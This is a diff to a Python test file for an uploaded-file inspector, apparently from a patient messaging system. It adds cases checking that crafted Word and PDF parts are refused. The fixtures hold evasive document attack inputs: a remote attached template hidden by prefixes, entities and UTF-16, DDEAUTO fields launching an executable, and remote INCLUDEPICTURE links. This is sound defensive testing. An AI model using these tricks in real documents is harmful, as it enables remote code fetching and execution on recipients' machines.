@@ -4,6 +4,7 @@ import io
 import subprocess
 import sys
 import zlib
+from contextlib import nullcontext
 
 import pikepdf
 import pytest
@@ -11,6 +12,7 @@ from PIL import Image
 
 from core.messages.filetypes import DOCX, FROM_PATIENTS, FROM_STAFF
 from core.messages.inspect import FileRefused, check_file, clean_name
+from core.messages.parsing import Rejected, word_parts
 from tests import documents as made
 
 LIMIT = 10 << 20
@@ -60,6 +62,7 @@ def test_word_documents_are_refused_unless_turned_on():
 @pytest.mark.parametrize(
     ("data", "why"),
     [(made.pdf_with_a_script(), "unsafe"), (made.pdf_with_a_script_in_a_field(), "unsafe"), (made.pdf_that_starts_a_program(), "unsafe"),
+     *((made.pdf_that_looks_elsewhere(how), "unsafe") for how in ("address", "thread", "stream", "page")),
      (made.pdf_with_a_file_inside(), "unsafe"), (made.locked_pdf(), "locked"), (made.pdf(501), "large"),
      (made.pdf() + b"<html><script>", "damaged"), (made.pdf()[:-40], "damaged"), (b"%PDF-1.7\n%%EOF", "damaged")],
 )  # fmt: skip
@@ -77,6 +80,46 @@ def test_a_pdf_that_does_more_than_lie_there_is_refused(data, why):
 )  # fmt: skip
 def test_a_word_document_that_carries_or_fetches_anything_is_refused(more, why):
     assert refusal("a.docx", made.word_document(**more)) == why
+
+
+OUTSIDE = '<Relationship {}Type="{}" Target="http://a.example/x.dotm" TargetMode="{}"/>'
+TEMPLATE, LINK = "http://x/relationships/attachedTemplate", "http://x/relationships/hyperlink"
+
+
+def field(*pieces: str) -> str:
+    """A field as Word writes it, its words in any number of runs."""
+    said = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in pieces)
+    return f'<w:p><w:fldChar w:fldCharType="begin"/>{said}<w:fldChar w:fldCharType="end"/></w:p>'
+
+
+@pytest.mark.s("S80")
+@pytest.mark.parametrize(
+    ("name", "said", "why"),
+    [
+        ("a.rels", f'<a:Relationships>{OUTSIDE.format("", TEMPLATE, "External").replace("<R", "<a:R")}</a:Relationships>', "unsafe"),
+        ("a.rels", OUTSIDE.format("", TEMPLATE, "Exter&#110;al"), "unsafe"),
+        ("a.rels", OUTSIDE.format('a=">" ', TEMPLATE, "External"), "unsafe"),
+        ("a.rels", OUTSIDE.format("", TEMPLATE, 'External" x="/relationships/hyperlink'), "unsafe"),
+        ("a.rels", OUTSIDE.format("", TEMPLATE, "Internal"), "unsafe"),
+        ("a.rels", OUTSIDE.format("", "http://x/relationships/image", "Internal"), "unsafe"),
+        ("a.rels", OUTSIDE.format("", TEMPLATE, "External").encode("utf-16"), "unsafe"),
+        ("a.rels", '<Relationship Type="http://x/relationships/aFChunk" Target="x.xml"/>', "unsafe"),
+        ("a.rels", '<Relationship Type="http://x/relationships/oleObject" Target="x.xml"/>', "unsafe"),
+        ("a.xml", "<!DOCTYPE a [<!ENTITY b 'c'>]><w/>".encode("utf-16"), "unsafe"),
+        ("a.xml", "<w>", "damaged"), ("a.htm", "<script/>", "unsafe"), ("a.bin", "", "unsafe"), ("a.xml", "<altChunk/>", "unsafe"),
+        ("a.xml", '<Types><Override ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/></Types>', "unsafe"),
+        ("a.xml", field(" DDE", "AUTO c:\\\\x.exe "), "unsafe"), ("a.xml", field('IF 1=1 "DDEAUTO"'), "unsafe"),
+        ("a.xml", '<w:fldSimple w:instr="INCLUDEPICTURE &quot;http://a.example/x.png&quot;"/>', "unsafe"),
+        ("a.xml", f"<w>{field('PAGE')}{field('QUOTE 68 68 69')}</w>", "unsafe"),
+        ("a.rels", "\ufeff" + OUTSIDE.format("", LINK, "External"), ""), ("a.xml", field(' HYPERLINK "http://a.example/link" '), ""),
+        ("a.xml", f"<w>{field('TOC')}<w:t>DDE import, link and quote</w:t></w>", ""), ("media/a.png", "", ""), ("a.xml", "<w/>", ""),
+    ],
+)  # fmt: skip
+def test_a_part_of_a_word_document_is_read_as_word_reads_it(name, said, why):
+    """Prefixes, entities, a `>` in a value and another encoding hid a template that is fetched when it is opened."""
+    data = said if isinstance(said, bytes) else said.encode()
+    with pytest.raises(Rejected, match=why) if why else nullcontext():
+        word_parts.check(name, data)
 
 
 def test_a_word_document_loses_its_author_and_what_stood_behind_it():
